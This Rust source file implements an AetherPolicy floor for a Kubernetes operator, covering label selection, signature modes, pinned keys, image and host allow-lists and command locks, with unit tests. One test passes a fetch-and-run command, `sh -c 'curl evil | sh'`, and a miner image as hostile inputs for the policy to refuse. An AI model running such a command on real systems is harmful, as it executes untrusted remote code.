//! The cluster admin's floor (AetherPolicy) over what an app asks for. Pure: the
//! caller has read the policies, the namespace's labels and the pinned key sets.
//!
//! An app may tighten the floor (a stricter signature mode, fewer trusted keys, no
//! command), never loosen it: the signature mode that takes effect is the stricter
//! of the app's and every selecting policy's; trusted keys are those in every pinned
//! set (and in the app's own `keysRef`, if it names one); an image or a command a
//! policy does not allow makes the app `Stalled` with `PolicyRefused`.

use std::collections::BTreeMap;

use aether_crds::{AetherApp, AetherPolicy, VerifyMode};
use k8s_openapi::apimachinery::pkg::apis::meta::v1::LabelSelector;
use kube::ResourceExt;

use super::validate::{Invalid, TrustedKeys};

/// Does `selector` select an object with `labels`? (An empty selector selects all.)
pub fn selects(selector: &LabelSelector, labels: &BTreeMap<String, String>) -> bool {
    let labelled = selector
        .match_labels
        .iter()
        .flatten()
        .all(|(k, v)| labels.get(k) == Some(v));
    let expressed = selector.match_expressions.iter().flatten().all(|e| {
        let values = e.values.as_deref().unwrap_or_default();
        let value = labels.get(&e.key);
        match e.operator.as_str() {
            "In" => value.is_some_and(|v| values.contains(v)),
            "NotIn" => value.is_none_or(|v| !values.contains(v)),
            "Exists" => value.is_some(),
            "DoesNotExist" => value.is_none(),
            // An operator this code does not know selects nothing rather than all.
            _ => false,
        }
    });
    labelled && expressed
}

/// The policies selecting a namespace with `labels`, by name (a stable order).
pub fn selecting<'a>(
    policies: &'a [AetherPolicy],
    labels: &BTreeMap<String, String>,
) -> Vec<&'a AetherPolicy> {
    let mut found: Vec<&AetherPolicy> = policies
        .iter()
        .filter(|p| selects(&p.spec.namespace_selector, labels))
        .collect();
    found.sort_by_key(|p| p.name_any());
    found
}

/// What the selecting policies add up to.
#[derive(Debug, Clone, Default)]
pub struct Floor {
    /// The strictest minimum mode, and the policy that sets it.
    minimum_mode: Option<(VerifyMode, String)>,
    /// Each pinned key set, with the policy that pins it.
    keys: Vec<(String, TrustedKeys)>,
    /// Each allow-list of images, with its policy.
    images: Vec<(String, Vec<String>)>,
    /// Each allow-list of public hosts, with where it comes from ("AetherPolicy X").
    hosts: Vec<(String, Vec<String>)>,
    /// A policy that forbids `spec.command`.
    no_command: Option<String>,
}

/// How strict a mode is: `Enforce` > `Warn` > `Off`.
fn strictness(mode: VerifyMode) -> u8 {
    match mode {
        VerifyMode::Off => 0,
        VerifyMode::Warn => 1,
        VerifyMode::Enforce => 2,
    }
}

impl Floor {
    /// `pinned`: the key set each policy's `verify.trustedKeys` names, read by the
    /// caller (a ConfigMap that is missing or holds no key pins an empty set: nothing
    /// is trusted, rather than everything).
    pub fn new(selecting: &[&AetherPolicy], pinned: &BTreeMap<String, TrustedKeys>) -> Self {
        let mut floor = Floor::default();
        for p in selecting {
            let name = p.name_any();
            if let Some(mode) = p.spec.verify.minimum_mode
                && floor
                    .minimum_mode
                    .as_ref()
                    .is_none_or(|(m, _)| strictness(mode) > strictness(*m))
            {
                floor.minimum_mode = Some((mode, name.clone()));
            }
            if p.spec.verify.trusted_keys.is_some() {
                let keys = pinned.get(&name).cloned().unwrap_or_default();
                floor.keys.push((name.clone(), keys));
            }
            if let Some(images) = &p.spec.allowed_images {
                floor.images.push((name.clone(), images.clone()));
            }
            if let Some(hosts) = &p.spec.allowed_hosts {
                floor.hosts.push((format!("AetherPolicy {name}"), hosts.clone()));
            }
            if !p.spec.allow_command && floor.no_command.is_none() {
                floor.no_command = Some(name);
            }
        }
        floor
    }

    /// The operator's own allow-list of hosts (`--allowed-hosts`), held everywhere
    /// like a policy's; empty: none of its own.
    pub fn with_allowed_hosts(mut self, allowed: &[String]) -> Self {
        if !allowed.is_empty() {
            self.hosts
                .push(("the operator's --allowed-hosts".into(), allowed.to_vec()));
        }
        self
    }

    /// May an app here ask for `host`? Every allow-list must hold it.
    pub fn allows_host(&self, host: &str) -> bool {
        self.hosts
            .iter()
            .all(|(_, allowed)| allowed.iter().any(|pattern| matches(pattern, host)))
    }

    /// The signature mode that takes effect: the app's, raised to the floor.
    pub fn mode(&self, asked: VerifyMode) -> VerifyMode {
        match &self.minimum_mode {
            Some((min, _)) if strictness(*min) > strictness(asked) => *min,
            _ => asked,
        }
    }

    /// The policy that raised `asked`, if one did (for messages).
    pub fn raised_by(&self, asked: VerifyMode) -> Option<&str> {
        self.minimum_mode
            .as_ref()
            .filter(|(min, _)| strictness(*min) > strictness(asked))
            .map(|(_, name)| name.as_str())
    }

    /// Does a policy forbid replacing the artifact's entrypoint? Then neither
    /// `spec.command` nor a variable that runs code first (`NODE_OPTIONS`, `LD_*`,
    /// from `env` or `envFrom`) may do it: the runtime drops those.
    pub fn locks_entrypoint(&self) -> bool {
        self.no_command.is_some()
    }

    /// Does any policy pin the trusted keys?
    pub fn pins_keys(&self) -> bool {
        !self.keys.is_empty()
    }

    /// The keys trusted for an app: those of `asked` (the app's `keysRef`, or None
    /// when it names none) that every pinned set also holds. Without pinned sets,
    /// `asked` (or `default`, the operator's keys) as before.
    pub fn trusted(&self, asked: Option<TrustedKeys>, default: impl FnOnce() -> TrustedKeys) -> TrustedKeys {
        let Some(((first_policy, first), rest)) = self.keys.split_first() else {
            return asked.unwrap_or_else(default);
        };
        let mut keys = asked
            .as_ref()
            .map_or_else(|| first.keys.clone(), |a| a.keys.clone());
        let mut sources = vec![format!("{} (AetherPolicy {first_policy})", first.source)];
        keys.retain(|k| first.keys.contains(k));
        for (policy, set) in rest {
            keys.retain(|k| set.keys.contains(k));
            sources.push(format!("{} (AetherPolicy {policy})", set.source));
        }
        if let Some(a) = &asked {
            sources.insert(0, a.source.clone());
        }
        TrustedKeys {
            source: sources.join(" ∩ "),
            pem: keys
                .iter()
                .map(aether_artifact::signature::PublicKey::to_pem)
                .collect(),
            keys,
        }
    }

    /// Refuse what a policy does not allow the app to ask for: an image or a host
    /// outside an allow-list, or a command override.
    pub fn admit(&self, app: &AetherApp) -> Result<(), Invalid> {
        if let Some(policy) = &self.no_command
            && app.spec.command.is_some()
        {
            return Err(refused(format!(
                "spec.command replaces the artifact's entrypoint, which AetherPolicy {policy} does not allow in this namespace"
            )));
        }
        if let Some(image) = app.spec.runtime.as_ref().and_then(|r| r.image.as_deref()) {
            for (policy, allowed) in &self.images {
                if !allowed.iter().any(|pattern| matches(pattern, image)) {
                    return Err(refused(format!(
                        "spec.runtime.image {image} is not among the images AetherPolicy {policy} allows: {}",
                        if allowed.is_empty() {
                            "none (the operator's own image only)".to_string()
                        } else {
                            allowed.join(", ")
                        }
                    )));
                }
            }
        }
        for host in &app.spec.hosts {
            for (source, allowed) in &self.hosts {
                if !allowed.iter().any(|pattern| matches(pattern, &host.name)) {
                    return Err(refused(format!(
                        "spec.hosts: {} is not among the hosts {source} allows in this namespace: {}",
                        host.name,
                        if allowed.is_empty() {
                            "none".to_string()
                        } else {
                            allowed.join(", ")
                        }
                    )));
                }
            }
        }
        Ok(())
    }
}

fn refused(message: String) -> Invalid {
    Invalid {
        reason: "PolicyRefused",
        message,
        waiting: false,
    }
}

/// `*` matches any run of characters (none included); everything else literally.
pub fn matches(pattern: &str, text: &str) -> bool {
    let mut parts = pattern.split('*');
    let first = parts.next().unwrap_or_default();
    let Some(mut rest) = text.strip_prefix(first) else {
        return false;
    };
    let parts: Vec<&str> = parts.collect();
    let Some((last, middle)) = parts.split_last() else {
        return rest.is_empty(); // no `*`: the whole text must be the pattern
    };
    for part in middle {
        match rest.find(part) {
            Some(i) => rest = &rest[i + part.len()..],
            None => return false,
        }
    }
    rest.len() >= last.len() && rest.ends_with(last)
}

#[cfg(test)]
mod tests {
    use super::*;
    use aether_artifact::signature::SigningKey;

    fn policy(name: &str, spec: serde_json::Value) -> AetherPolicy {
        serde_json::from_value(serde_json::json!({
            "apiVersion": "aether.dev/v1alpha1", "kind": "AetherPolicy",
            "metadata": {"name": name}, "spec": spec,
        }))
        .unwrap()
    }

    fn app(spec: serde_json::Value) -> AetherApp {
        let mut s = serde_json::json!({"artifactRef": {"name": "a"}});
        s.as_object_mut()
            .unwrap()
            .extend(spec.as_object().unwrap().clone());
        serde_json::from_value(serde_json::json!({
            "apiVersion": "aether.dev/v1alpha1", "kind": "AetherApp",
            "metadata": {"name": "web", "namespace": "team-a"}, "spec": s,
        }))
        .unwrap()
    }

    fn keys(source: &str, n: usize) -> (TrustedKeys, Vec<aether_artifact::signature::PublicKey>) {
        let ks: Vec<_> = (0..n)
            .map(|_| {
                SigningKey::from_pem(&SigningKey::generate_pem().unwrap())
                    .unwrap()
                    .public_key()
            })
            .collect();
        (
            TrustedKeys {
                source: source.into(),
                pem: ks.iter().map(|k| k.to_pem()).collect(),
                keys: ks.clone(),
            },
            ks,
        )
    }

    #[test]
    fn selectors_match_labels_and_expressions() {
        let labels: BTreeMap<String, String> = [("tier".to_string(), "prod".to_string())].into();
        let sel = |v: serde_json::Value| -> LabelSelector { serde_json::from_value(v).unwrap() };
        assert!(selects(&sel(serde_json::json!({})), &labels));
        assert!(selects(
            &sel(serde_json::json!({"matchLabels": {"tier": "prod"}})),
            &labels
        ));
        assert!(!selects(
            &sel(serde_json::json!({"matchLabels": {"tier": "dev"}})),
            &labels
        ));
        let expr = |op: &str, values: &[&str]| {
            sel(serde_json::json!({"matchExpressions": [{"key": "tier", "operator": op, "values": values}]}))
        };
        assert!(selects(&expr("In", &["prod", "staging"]), &labels));
        assert!(!selects(&expr("NotIn", &["prod"]), &labels));
        assert!(selects(&expr("Exists", &[]), &labels));
        assert!(!selects(&expr("DoesNotExist", &[]), &labels));
        assert!(
            !selects(&expr("Gt", &["1"]), &labels),
            "unknown operators select nothing"
        );
    }

    #[test]
    fn the_mode_is_raised_to_the_strictest_floor_never_lowered() {
        let warn = policy("warn", serde_json::json!({"verify": {"minimumMode": "Warn"}}));
        let enforce = policy(
            "enforce",
            serde_json::json!({"verify": {"minimumMode": "Enforce"}}),
        );
        let floor = Floor::new(&[&warn], &BTreeMap::new());
        assert_eq!(floor.mode(VerifyMode::Off), VerifyMode::Warn);
        assert_eq!(floor.raised_by(VerifyMode::Off), Some("warn"));
        assert_eq!(floor.raised_by(VerifyMode::Enforce), None);
        assert_eq!(
            floor.mode(VerifyMode::Enforce),
            VerifyMode::Enforce,
            "an app may tighten"
        );
        let floor = Floor::new(&[&warn, &enforce], &BTreeMap::new());
        assert_eq!(floor.mode(VerifyMode::Off), VerifyMode::Enforce);
        assert_eq!(Floor::default().mode(VerifyMode::Off), VerifyMode::Off);
    }

    #[test]
    fn pinned_keys_can_only_be_narrowed() {
        let pin = policy(
            "pin",
            serde_json::json!({"verify": {"trustedKeys": {"namespace": "aether-system", "name": "ci-keys"}}}),
        );
        let (ci, ci_keys) = keys("ConfigMap aether-system/ci-keys", 2);
        let floor = Floor::new(&[&pin], &[("pin".to_string(), ci)].into());
        assert!(floor.pins_keys());
        // No keysRef: the pinned keys, not the operator's default.
        let t = floor.trusted(None, || panic!("the default is not consulted"));
        assert_eq!(t.keys, ci_keys);
        assert!(t.source.contains("AetherPolicy pin"), "{}", t.source);
        // The app's own keys: only those the policy also trusts.
        let (mine, _) = keys("ConfigMap team-a/mine", 1);
        let mut asked = mine.clone();
        asked.keys.push(ci_keys[0].clone());
        let t = floor.trusted(Some(asked), TrustedKeys::default);
        assert_eq!(
            t.keys,
            vec![ci_keys[0].clone()],
            "a tenant's own key is not trusted"
        );
        assert!(t.pem.contains("PUBLIC KEY"));
        // A pinned ConfigMap that is missing trusts nothing.
        let floor = Floor::new(&[&pin], &BTreeMap::new());
        assert!(floor.trusted(None, TrustedKeys::default).keys.is_empty());
        // No policy pins keys: as before.
        let t = Floor::default().trusted(Some(mine.clone()), TrustedKeys::default);
        assert_eq!(t.keys, mine.keys);
    }

    #[test]
    fn images_and_commands_outside_the_policy_are_refused() {
        let strict = policy(
            "strict",
            serde_json::json!({"allowedImages": ["registry.example/node:*-slim"], "allowCommand": false}),
        );
        let floor = Floor::new(&[&strict], &BTreeMap::new());
        assert!(floor.locks_entrypoint());
        assert!(!Floor::default().locks_entrypoint());
        assert!(floor.admit(&app(serde_json::json!({}))).is_ok());
        assert!(
            floor
                .admit(&app(
                    serde_json::json!({"runtime": {"image": "registry.example/node:22-slim"}})
                ))
                .is_ok()
        );
        let e = floor
            .admit(&app(
                serde_json::json!({"runtime": {"image": "evil.example/miner:1"}}),
            ))
            .unwrap_err();
        assert_eq!(e.reason, "PolicyRefused");
        assert!(e.message.contains("AetherPolicy strict"), "{}", e.message);
        let e = floor
            .admit(&app(
                serde_json::json!({"command": ["sh", "-c", "curl evil | sh"]}),
            ))
            .unwrap_err();
        assert!(e.message.contains("spec.command"), "{}", e.message);
        // An empty list allows no image of the app's choosing.
        let none = policy("none", serde_json::json!({"allowedImages": []}));
        let floor = Floor::new(&[&none], &BTreeMap::new());
        assert!(
            floor
                .admit(&app(serde_json::json!({"runtime": {"image": "node:22-slim"}})))
                .is_err()
        );
    }

    #[test]
    fn hosts_outside_every_policy_list_are_refused() {
        let team = policy(
            "team-a",
            serde_json::json!({"allowedHosts": ["*.team-a.example.com"]}),
        );
        let floor = Floor::new(&[&team], &BTreeMap::new());
        let hosts = |h: &[&str]| {
            app(
                serde_json::json!({"hosts": h.iter().map(|n| serde_json::json!({"name": n})).collect::<Vec<_>>()}),
            )
        };
        assert!(floor.admit(&hosts(&[])).is_ok());
        assert!(floor.admit(&hosts(&["shop.team-a.example.com"])).is_ok());
        let e = floor
            .admit(&hosts(&["shop.team-a.example.com", "login.example.com"]))
            .unwrap_err();
        assert_eq!(e.reason, "PolicyRefused");
        assert!(
            e.message
                .contains("login.example.com is not among the hosts AetherPolicy team-a allows"),
            "{}",
            e.message
        );
        // A look-alike suffix is not the team's domain.
        assert!(floor.admit(&hosts(&["shop.evilteam-a.example.com"])).is_err());
        // Without a list any host goes (who holds it is decided elsewhere).
        assert!(Floor::default().admit(&hosts(&["login.example.com"])).is_ok());
        // The operator's own list holds beside the policies'.
        let operator = Floor::default().with_allowed_hosts(&["*.apps.example.com".into()]);
        assert!(operator.allows_host("shop.apps.example.com"));
        assert!(!operator.allows_host("login.example.com"));
        let e = operator.admit(&hosts(&["login.example.com"])).unwrap_err();
        assert!(
            e.message.contains("the operator's --allowed-hosts"),
            "{}",
            e.message
        );
        assert!(floor.allows_host("shop.team-a.example.com") && !floor.allows_host("login.example.com"));
    }

    #[test]
    fn patterns_match_whole_names() {
        assert!(matches("node:*-slim", "node:22-slim"));
        assert!(matches("node:*", "node:"));
        assert!(matches("a*b*c", "aXbYc"));
        assert!(!matches("node:*-slim", "node:22-slim-evil"));
        assert!(!matches("node:22", "node:22-evil"));
        assert!(!matches("reg/node:*", "evil/reg/node:1"));
        assert!(matches("*", "anything"));
        assert!(!matches("a*a", "a"));
    }
}
